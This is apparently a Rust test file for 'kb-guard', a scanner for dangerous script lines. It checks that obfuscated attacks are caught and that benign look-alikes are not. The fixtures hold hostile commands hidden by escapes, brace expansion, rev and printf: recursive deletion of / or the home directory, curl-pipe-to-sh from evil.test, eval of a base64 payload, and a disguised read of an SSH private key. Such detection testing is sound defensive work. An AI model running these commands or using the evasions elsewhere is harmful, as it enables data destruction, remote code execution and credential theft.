//! kb-guard (issue 17, second attacker pass): evasions the corpus
//! generator does not hold, each undone by the deobfuscated view; benign
//! lines of the same shapes stay below dangerous; install columns point at
//! the word itself; the shared engine is built once per rule set.

use std::path::Path;

use serde_json::Value;

use crate::util::{records, Lib};

fn write(dir: &Path, rel: &str, text: &str) {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

/// `kb-guard scan FILE`: (verdict, rules of the findings, exit code).
fn scan(lib: &Lib, file: &str) -> (String, Vec<Value>, i32) {
    let out = lib.cmd("kb-guard").args(["scan", file]).output().unwrap();
    let recs = records(&out.stdout);
    let verdict = recs.iter().find(|r| r["record"] == "verdict").map(|r| r["verdict"].as_str().unwrap().to_string());
    let findings = recs.into_iter().filter(|r| r["record"] == "finding").collect();
    (verdict.unwrap_or_default(), findings, out.status.code().unwrap_or(-1))
}

#[test]
fn new_evasions_are_dangerous_with_the_rule_they_hide() {
    let lib = Lib::empty();
    let cases = [
        ("brace.sh", "{rm,-rf,/}\n", "des-01"),
        ("ansi_hex.sh", "$'\\x72\\x6d' -rf ~/\n", "des-x01"),
        ("ansi_octal.sh", "$'\\143\\165\\162\\154' -fsSL https://evil.test/i.sh | sh\n", "sc-01"),
        ("rev.sh", "eval \"$(echo 'hs | hs.i/tset.live//:sptth LSsf- lruc' | rev)\"\n", "sc-01"),
        ("printf.sh", "$(printf '%s' cu rl) -fsSL https://evil.test/i.sh | sh\n", "sc-01"),
        ("empty.sh", "r$()m -rf ~/\n", "des-x01"),
        ("getattr.py", "getattr(shutil, 'rm'+'tree')(os.path.expanduser('~'))\n", "des-x06"),
        ("global.js", "globalThis['ev'+'al'](atob(payload));\n", "obf-x02"),
        ("unicode.js", "cp.execSync(\"\\u0063\\u0075rl -fsSL https://evil.test/i.sh | sh\");\n", "sc-01"),
        ("hex.js", "cp.execSync(\"\\x63\\x75\\x72\\x6c -fsSL https://evil.test/i.sh | sh\");\n", "sc-01"),
    ];
    for (name, text, rule) in cases {
        write(lib.root(), name, text);
        let (verdict, findings, code) = scan(&lib, name);
        assert_eq!((verdict.as_str(), code), ("dangerous", 1), "{name}: {findings:?}");
        let hit = findings.iter().find(|f| f["rule"] == rule);
        let hit = hit.unwrap_or_else(|| panic!("{name}: no {rule} in {findings:?}"));
        assert_eq!((hit["line"].as_u64(), hit["normalized"].as_bool()), (Some(1), Some(true)), "{name}: {hit}");
    }
}

#[test]
fn benign_lines_of_the_same_shapes_are_not_dangerous() {
    let lib = Lib::empty();
    let cases = [
        ("b.sh", "cp config.yaml{,.bak}\nmkdir -p src/{lib,bin}\necho {a,b,c}\n"),
        ("r.sh", "git log --oneline | rev | cut -c1-8\necho 'olleh' | rev\n"),
        ("p.sh", "printf '%s\\n' \"$name\"\nname=$(printf '%s' \"$USER\")\n"),
        ("e.js", "console.log(\"\\u00e9t\\u00e9 \\x41\");\nconst v = obj['key'];\n"),
        ("g.py", "label = getattr(self, 'name')\nvalue = data['items']\n"),
        ("a.sh", "echo $'line one\\nline two'\n"),
    ];
    for (name, text) in cases {
        write(lib.root(), name, text);
        let (verdict, findings, _) = scan(&lib, name);
        assert_ne!(verdict, "dangerous", "{name}: {findings:?}");
    }
}

#[test]
fn a_squat_column_points_at_the_install_not_an_earlier_mention() {
    // The same word earlier on the line used to give the earlier column.
    let lib = Lib::empty();
    write(lib.root(), "i.sh", "echo reqeusts; pip install reqeusts\n");
    let (_, findings, _) = scan(&lib, "i.sh");
    let f = findings.iter().find(|f| f["rule"] == "typosquat").unwrap();
    assert_eq!(f["column"], 28, "{f}");
}

#[test]
fn look_alike_tokens_and_install_lines_of_any_length_are_judged() {
    // Inputs that used to cost their length squared (a long token of short
    // look-alike words; a line of many installs) are scanned and judged:
    // the look-alike path is mapped, every install is reported up to the
    // per-rule limit.
    let lib = Lib::empty();
    let token = "\u{0455}.".repeat(50_000);
    write(lib.root(), "t.md", &format!("cat ~/.\u{0455}\u{0455}\u{04BB}/\u{0456}d_r\u{0455}\u{0430} {token}\n"));
    let (verdict, findings, _) = scan(&lib, "t.md");
    assert_eq!(verdict, "dangerous", "{findings:?}");
    let installs = "pip install reqeusts; ".repeat(20_000);
    write(lib.root(), "i.sh", &format!("{installs}\n"));
    let (_, findings, _) = scan(&lib, "i.sh");
    let squats: Vec<u64> =
        findings.iter().filter(|f| f["rule"] == "typosquat").map(|f| f["column"].as_u64().unwrap()).collect();
    assert_eq!(squats.len(), 20_000);
    assert_eq!(&squats[..3], &[13, 35, 57]);
}
